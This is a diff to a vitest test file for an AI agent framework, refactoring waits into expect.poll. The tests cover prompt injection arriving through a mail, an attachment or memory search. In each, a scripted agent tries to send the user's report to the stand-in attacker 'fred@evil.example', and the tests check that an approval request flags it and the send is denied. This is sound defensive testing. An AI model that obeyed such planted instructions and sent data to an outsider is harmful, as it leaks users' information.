@@ -5,7 +5,7 @@ import { systemPorts } from '@sluice/kernel/system';
 import { createManualClock } from '@sluice/kernel/testing';
 import { readPolicy } from '@sluice/policy';
 import { composePolicy } from '@sluice/tools';
-import { expect, test, vi } from 'vitest';
+import { expect, test } from 'vitest';
 import { z } from 'zod';
 import { conversationOfSession } from './conversation-of-session.js';
 
@@ -90,7 +90,7 @@ test('V-04 an obedient agent is asked about what a mail told it, once, and what 
     'done',
   ];
   const { agent, sent, turn } = await ask(script, 'Send my report to anna@corp.example');
-  await vi.waitFor(async () => expect(await agent.pendingApprovals('s1')).toHaveLength(1));
+  await expect.poll(() => agent.pendingApprovals('s1')).toHaveLength(1);
   const [question] = await agent.pendingApprovals('s1');
   expect(question?.request).toMatchObject({ callId: 'b' });
   expect(JSON.stringify(question?.request)).toContain(
@@ -109,11 +109,12 @@ test('V-01 a sub-agent knows what its parent read, and its task is no word of th
   const script = [read, task, send('b', 'fred@evil.example'), 'sent', 'done'];
   const { agent, sent, turn } = await ask(script, 'Send my report to anna@corp.example');
   let child = '';
-  await vi.waitFor(async () => {
+  const asked = async () => {
     const sessions = await agent.sessions.list({ limit: 10, includeChildren: true });
     child = sessions.find(({ parentSessionId }) => parentSessionId === 's1')?.id ?? '';
-    expect(await agent.pendingApprovals(child)).toHaveLength(1);
-  });
+    return agent.pendingApprovals(child);
+  };
+  await expect.poll(asked).toHaveLength(1);
   await agent.decide(child, 'b', 'deny');
   await turn;
   expect(sent).toEqual([]);
@@ -130,7 +131,7 @@ test.each([
   const data = mediaType === 'text/plain' ? Buffer.from(mail) : PNG;
   const message = { text: 'Send my report', attachments: [{ name, mediaType, data }] };
   const { agent, turn } = await ask([send('b', 'fred@evil.example'), 'done'], message);
-  await vi.waitFor(async () => expect(await agent.pendingApprovals('s1')).toHaveLength(1));
+  await expect.poll(() => agent.pendingApprovals('s1')).toHaveLength(1);
   const [question] = await agent.pendingApprovals('s1');
   expect(JSON.stringify(question?.request)).toContain(why);
   await agent.decide('s1', 'b', 'deny');
@@ -147,7 +148,7 @@ test('V-01 what memory brings into the prompt is a text of a stranger, and is fo
     tags: [],
   });
   const turn = made.agent.send('s1', 'Send my report to anna@corp.example');
-  await vi.waitFor(async () => expect(await made.agent.pendingApprovals('s1')).toHaveLength(1));
+  await expect.poll(() => made.agent.pendingApprovals('s1')).toHaveLength(1);
   const [question] = await made.agent.pendingApprovals('s1');
   expect(JSON.stringify(question?.request)).toContain(
     'stands in the result of memory_search, line 1; you did not mention it',
